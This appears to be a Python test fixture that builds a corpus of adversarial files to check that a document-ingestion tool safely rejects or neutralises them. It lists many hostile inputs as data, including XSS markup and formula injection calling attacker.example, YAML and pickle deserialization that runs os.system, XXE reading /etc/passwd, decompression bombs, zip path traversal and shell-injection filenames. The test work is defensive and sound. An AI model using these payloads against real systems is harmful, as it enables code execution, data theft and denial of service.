"""The corpus of attacks: small files built here, each of which must end in a row of documents or of rejected."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from tests.corpus.files import pdf, word

MARK = "window.pactwatchRan=1"
AWAY = "http://attacker.example"


class Case(NamedTuple):
    """One attack: its class, the file's name in the corpus, its bytes, and where it must end ("", or a reason)."""

    kind: str
    name: str
    content: bytes
    reason: str = ""


MARKUP = (
    f"<script>{MARK}</script>",
    f"<ScRiPt src={AWAY}/x.js></sCrIpT>",
    f'"><script>{MARK}</script>',
    f"</title><script>{MARK}</script>",
    f"</textarea></pre></td></table><script>{MARK}</script>",
    f'<img src=x onerror="{MARK}">',
    f"'><img src={AWAY}/pixel.png>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{MARK}"><text y=9>go</text></a></svg>',
    f"<svg><foreignObject><iframe src={AWAY}></iframe></foreignObject></svg>",
    f'<iframe srcdoc="<script>parent.{MARK[7:]}</script>"></iframe>',
    f"<object data={AWAY}/x.swf></object>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';body{{display:none}}</style>",
    f'<base href="{AWAY}/">',
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<form action={AWAY}><input name=a autofocus onfocus={MARK}></form>",
    f"<details open ontoggle={MARK}>",
    f'<a href="java\tscript:{MARK}">go</a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"<!--><img src=x onerror={MARK}>-->",
    f"]]><script>{MARK}</script>",
    f"{{{{constructor.constructor('{MARK}')()}}}}",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    f"${{{MARK}}}",
)
MARKDOWN = (
    f"[go](javascript:{MARK})",
    f"![pixel]({AWAY}/p.png)",
    f'[a]: data:text/html;base64,PHNjcmlwdD4= "\'onclick={MARK}"',
    f"<javascript:{MARK}>",
    "```{python}\n__import__('os').system('touch escaped')\n```",
    "| a | b |\n|---|---|\n| <b onmouseover=alert(1)>c</b> | d |",
    "$\\href{javascript:alert(1)}{x}$ $$\\input{/etc/passwd}$$",
    f'![x](x"onerror="{MARK})',
    "%%bash\ntouch escaped",
    "!touch escaped",
)
FORMULAS = (
    f'=HYPERLINK("{AWAY}?"&A1,"go")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    f'=WEBSERVICE("{AWAY}")', f'=IMPORTXML("{AWAY}","//a")', '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1",
    "\uff1d1+1", '";=1+1;"',
)  # fmt: skip
YAML = (
    "title: !!python/object/apply:os.system ['touch escaped']",
    "title: !!python/name:os.system",
    "title: !!python/object/new:type {args: [z, !!python/tuple [], {}]}",
    "title: &a [*a]",
    "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ntitle: [*d,*d,*d,*d,*d,*d,*d]",
    "title: !<tag:yaml.org,2002:python/module:os>",
    "? {a: b}\n: title",
    "title: 99999999999999999999999-99-99\ndate: 99999-99-99",
    "<<: *nothing",
    "title: " + "[" * 2000,
)
UNICODE = {
    "override": "Russia \u202eimposed sanctions on\u202c Iran.",
    "isolate": "Norway \u2066met\u2069 \u2067Chile\u2069 in Oslo.",
    "homoglyph": "\u0420ussia and Ir\u0430n signed a p\u0430ct.",
    "zero-width": "Rus\u200bsia imp\u200dosed sanc\u2060tions on Ir\ufeffan.",
    "decomposed": "Co\u0302te d\u2019Ivoire and Tu\u0308rkiye signed.",
    "composed": "C\u00f4te d\u2019Ivoire and T\u00fcrkiye signed.",
    "compatibility": "\uff32\uff55\uff53\uff53\uff49\uff41 met \U0001d5e1\U0001d5fc\U0001d5ff\U0001d604\U0001d5ee\U0001d606.",
    "combining": "Norway a" + "\u0301" * 3000 + " met Chile.",
    "flags": "\U0001f1f3\U0001f1f4 met \U0001f1e8\U0001f1f1, Norway said.",
    "joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467 Norway met Chile.",
    "tags": "Norway\U000e0041\U000e0042 met Chile.",
    "separators": "Norway\u2028met\u2029Chile\x85in Oslo.",
    "odd spaces": "Norway\u00a0met\u2003Chile\u3000in\u1680Oslo.",
    "grows": "\u0130ran and \u1e9elovakia met; \ufb01nance in \u0149orway.",
    "nonchar": "Norway \ufffe met \uffff Chile.",
    "private": "Norway \ue000 met \U0010ffff Chile.",
    "escape": "Norway \x1b[31mmet\x1b]0;x\x07 Chile.",
    "digits": "On \u0664 May \u0662\u0660\u0662\u0663 Norway met Chile.",
    "superscript": "On \u00b2 May \u2460\u2461 Norway met Chile in 20\u00b2\u00b3.",
}
LAYOUT = {
    "nested quotes": "He said “she said ‘they said “" * 300 + "no” ’ ”",
    "open quotes": '"“‘«' * 800,
    "closed first": "”’»" * 800 + " Norway met Chile.",
    "nested brackets": "(" * 3000 + "Norway" + ")" * 3000,
    "one long word": "a" * 60_000,
    "one long sentence": "Russia sanctioned Iran and " * 700,
    "only spaces": "Norway" + " " * 60_000 + "met Chile.",
    "only line ends": "Norway" + "\n" * 60_000 + "met Chile.",
    "initials": "A.B." * 1500,
    "dashes": "Norway—" * 1500,
    "days": "4 May 2023 " * 700,
    "speakers": "MR LEE: " * 800,
    "names": "Kim Jong Un " * 700,
    "commas": "Iran, " * 1500,
    "acronyms": "Ruritanian Union (RU) " * 400,
    "apostrophes": "Iran’s " * 1000,
}
NAMES = (
    "up..%2f..%2fescape.txt",
    "%2e%2e%2fescape.txt",
    "a;touch escaped;.txt",
    "$(touch escaped).txt",
    "`touch escaped`.txt",
    "-rf.txt",
    "--out=x.txt",
    "<img src=x onerror=window.pactwatchRan=1>.txt",
    "'><script>window.pactwatchRan=1<%2fscript>.txt",
    "=1+1.txt",
    "javascript:alert(1).txt",
    "a\nb.txt",
    "a\x1b[31m.txt",
    "a\u202etxt.exe.txt",
    "CON.txt",
    "a\\..\\b.txt",
    "{{7*7}}.txt",
    "%s%n.txt",
    "[x](javascript:alert(1)).md",
    "x" * 240 + ".txt",
    "a..txt.txt",
    " .txt",
    "~root.txt",
)


def body(mark: str) -> str:
    """Sentences that give records, around an attack."""
    return (
        f"Russia imposed sanctions on Iran over {mark} on 4 May 2023, officials said.\n\n"
        f"Norway and Chile signed a trade agreement in Oslo. {mark}\n"
    )


def cases() -> list[Case]:
    """Every attack; names are unique and sorted within each class."""
    return [*_marked(), *_formulas(), *_yaml(), *_unicode(), *_layout(), *_names(), *_bombs(), *_broken()]


def _marked() -> Iterator[Case]:
    for at, mark in enumerate(MARKUP + MARKDOWN):
        kind = "markup" if mark in MARKUP else "markdown"
        yield Case(kind, f"{kind}/text-{at}.txt", body(f"{mark} {at}").encode())
        fields = {"text": body(f"field {at}"), "title": mark, "source": mark, "author": mark, "url": f"{AWAY}/{mark}"}
        yield Case(kind, f"{kind}/fields-{at}.json", json.dumps(fields).encode())
        page = f"<html lang=en><head><title>{mark}</title></head><body><article><p>{body(f'{mark} page {at}')}</p></article>"
        yield Case(kind, f"{kind}/page-{at}.html", page.encode())
        if at % 3 == 0:
            keys = {"text": body(f"key {at}"), mark: mark, "__proto__": {"x": mark}, "__class__": mark}
            yield Case(kind, f"{kind}/keys-{at}.json", json.dumps(keys).encode())
            yield Case(kind, f"{kind}/mark-{at}.md", f"# {mark}\n\n{body(f'{mark} md {at}')}".encode())
    for at, address in enumerate(
        ("javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd", "//attacker.example", "vbscript:x")
    ):
        row = {"text": body(f"address {at}"), "url": address}
        yield Case("address", f"address/{at}.json", json.dumps(row).encode())


def _formulas() -> Iterator[Case]:
    for at, formula in enumerate(FORMULAS):
        yield Case("formula", f"formula/title-{at}.json", json.dumps({"title": formula, "text": formula + " " + body(f"f{at}")}).encode())  # fmt: skip
        cell = '"' + formula.replace('"', '""') + '"'
        yield Case("formula", f"formula/cell-{at}.csv", f'title,text\n{cell},"{body(f"c{at}")}"\n'.encode())


def _yaml() -> Iterator[Case]:
    for at, front in enumerate(YAML):
        yield Case("yaml", f"yaml/front-{at}.md", f"---\n{front}\n---\n{body(f'yaml {at}')}".encode())


def _unicode() -> Iterator[Case]:
    for name, text in UNICODE.items():
        yield Case("unicode", f"unicode/{name}.txt", (text + "\n\n" + body(name)).encode())
    yield Case("unicode", "unicode/nul.txt", body("a\x00b").encode(), "binary")
    yield Case("unicode", "unicode/nul.json", json.dumps({"title": "a\x00b", "text": body("nul \x00 json")}).encode())
    yield Case(
        "unicode", "unicode/surrogate.json", b'{"title": "\\ud800", "text": "Norway \\udfff met Chile in Oslo."}'
    )
    yield Case("unicode", "unicode/swapped.json", b'{"text": "Norway \\udc00\\ud800 met Chile in Santiago."}')
    yield Case("unicode", "unicode/overlong.txt", b"Norway \xc0\xaf met Chile \xed\xa0\x80 in Oslo.")
    yield Case("unicode", "unicode/utf7.txt", b"+ADw-script+AD4- Norway and Chile met in Oslo to sign a pact.")


def _layout() -> Iterator[Case]:
    for name, text in LAYOUT.items():
        yield Case("layout", f"layout/{name}.txt", ("Norway met Chile.\n\n" + text).encode())


def _names() -> Iterator[Case]:
    for at, name in enumerate(NAMES):
        yield Case("name", f"name/{name.replace('/', '%2f')}", body(f"named {at}").encode())


def _bombs() -> Iterator[Case]:
    yield Case("bomb", "bomb/spaces.txt.gz", gzip.compress(b" " * 80_000_000, 9), "too-large")
    yield Case("bomb", "bomb/line.txt.gz", gzip.compress(b"Norway met Chile and " * 2_500_000, 9), "too-large")
    yield Case("bomb", "bomb/letters.txt.gz", gzip.compress(b"a. " * 1_000_000, 9), "too-large")
    yield Case("bomb", "bomb/short-letters.txt.gz", gzip.compress(b"a. b.\n" * 160_000, 9), "too-large")
    yield Case("bomb", "bomb/marks.txt.gz", gzip.compress(b"Norway met Chile. " + b"(!)" * 500_000, 9), "too-large")
    yield Case(
        "bomb", "bomb/line.jsonl.gz", gzip.compress(b'{"text": "' + b"a " * 10_000_000 + b'"}\n', 9), "too-large"
    )
    yield Case("bomb", "bomb/twice.txt.gz", gzip.compress(gzip.compress(b" " * 9_000_000)))
    yield Case("bomb", "bomb/cut.txt.gz", gzip.compress(body("cut").encode() * 50)[:-20], "malformed")
    yield Case("bomb", "bomb/list.json", b'{"text": ' + b"[" * 100_000, "malformed")
    yield Case("bomb", "bomb/number.json", b'{"text": "Norway met Chile in Oslo.", "date": 1' + b"0" * 9000 + b"}")
    yield Case("bomb", "bomb/cell.csv", b'title,text\n"' + b"Norway, " * 10_000)
    yield Case("bomb", "bomb/columns.csv", b"text," + b"a," * 20_000 + b"\nNorway met Chile in Oslo and left.\n")
    yield Case("bomb", "bomb/deep.html", b"<div>" * 20_000 + b"<p>Norway met Chile in Oslo, officials said.</p>")
    yield Case("bomb", "bomb/attributes.html", b"<p " + b"a=b " * 20_000 + b">Norway met Chile, officials said.</p>")
    yield Case("bomb", "bomb/word.docx", _archive({"word/document.xml": b" " * 90_000_000}), "too-large")
    yield Case("bomb", "bomb/parts.docx", _archive({f"p{at}": b"" for at in range(6000)}), "too-large")
    packed = zlib.compress(b"q " * 12_000_000, 9)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    stream = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    yield Case("bomb", "bomb/stream.pdf", _pdf(page, stream), "too-large")


def _broken() -> Iterator[Case]:
    declared = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">{more}]>'
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10)) + '<!ENTITY l0 "ha">'
    for at, (inside, used) in enumerate(
        (("", "&x;"), (laughs, "&l9;"), (f'<!ENTITY % p SYSTEM "{AWAY}/x.dtd">%p;', "&p;"))
    ):
        head = declared.format(more=inside)
        yield Case(
            "entity",
            f"entity/page-{at}.html",
            f"{head}<p>Norway met Chile {at} {used} in Oslo, officials said.".encode(),
        )
        text = f'{head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Norway met Chile {at} {used}</w:t></w:r></w:p></w:body></w:document>'
        yield Case("entity", f"entity/word-{at}.docx", _reworded(text.encode()))
    for at, inner in enumerate(
        ("../../escaped.txt", "/escaped.txt", "..\\..\\escaped.txt", "word/../../escaped.txt")
    ):
        yield Case("traversal", f"traversal/{at}.docx", _archive({inner: b"out"}, word(body(f"archive {at}"))))
        yield Case("traversal", f"traversal/{at}.zip", _archive({inner: b"out"}), "binary")
    loop = b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
    yield Case("broken", "broken/loop.pdf", _pdf(loop, b"<<>>"))
    scripted = pdf(body("pdf")).replace(
        b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    )
    yield Case("broken", "broken/script.pdf", scripted)
    yield Case("broken", "broken/title.pdf", pdf(body("pdf title"), Title=MARKUP[0]))
    yield Case("broken", "broken/title.docx", word(body("word title"), title=MARKUP[0]))
    yield Case("broken", "broken/elf.txt", b"\x7fELF" + bytes(range(256)) * 4)
    yield Case("broken", "broken/two.json", b'{"text": "Norway met Chile.", "text": ["x", {"a": null}]}')
    yield Case("broken", "broken/nan.json", b'{"text": NaN, "date": Infinity}')
    yield Case("broken", "broken/code.pkl", b"cos\nsystem\n(S'touch escaped'\ntR.", "binary")
    yield Case("broken", "broken/code.parquet", b"PAR1cos\nsystem\n(S'touch escaped'\ntR.PAR1", "malformed")


def _archive(parts: dict[str, bytes], base: bytes = b"") -> bytes:
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a" if base else "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _reworded(text: bytes) -> bytes:
    """A .docx whose main part is this."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word("x"))) as sound, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for part in sound.namelist():
            made.writestr(part, text if part == "word/document.xml" else sound.read(part))
    return out.getvalue()


def _pdf(third: bytes, fourth: bytes) -> bytes:
    objects = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", third, fourth)
    out = b"%PDF-1.4\n"
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out
        + b"xref\n0 5\n0000000000 65535 f \n"
        + table
        + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(out)
    )


# what a page must not hold, whatever a click or a key would do
CLICKED = """() => [...document.querySelectorAll('*')].flatMap(e => [
  ...[...e.attributes].filter(a => /^on/i.test(a.name)).map(a => a.name),
  ...['href', 'src', 'action', 'data', 'xlink:href'].map(n => e.getAttribute(n) || '').filter(v => /^\\s*(javascript|vbscript|data:text|file):/i.test(v)),
  ...(/^(iframe|object|embed|base)$/i.test(e.tagName) ? [e.tagName] : [])])"""
